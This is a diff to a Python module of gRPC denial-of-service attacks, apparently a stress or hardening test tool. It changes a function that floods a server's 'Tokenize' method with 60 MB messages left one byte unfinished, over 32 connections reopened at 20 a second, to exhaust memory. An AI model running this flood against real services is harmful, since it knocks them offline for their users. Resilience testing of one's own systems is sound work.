@@ -1,5 +1,6 @@
 """Attacks on the gRPC port, in frames of their own making; attacks_http.py says what they return."""
 
+import itertools
 import struct
 import threading
 import time
@@ -118,12 +119,13 @@ def unfinished_streams(options):
 def unfinished_messages(options):
     """Messages of 60 MB that come but for their last byte, on 32 connections."""
     message = b"\0" + struct.pack(">I", 60 << 20) + bytes((60 << 20) - 1)
-    turn = threading.Lock()
+    turn, made = threading.Lock(), itertools.count()
 
     def flood(started):
-        # Memory is the aim: a connection that was ended is made again, 20 of them a second.
-        with turn:
-            time.sleep(0.05)
+        # Memory is the aim: connections that were ended are made again, 20 a second.
+        if next(made) >= 32:
+            with turn:
+                time.sleep(0.05)
         peer = wire.GrpcConnection(options.grpc, 30)
         try:
             peer.send("Tokenize", message, finish=False)
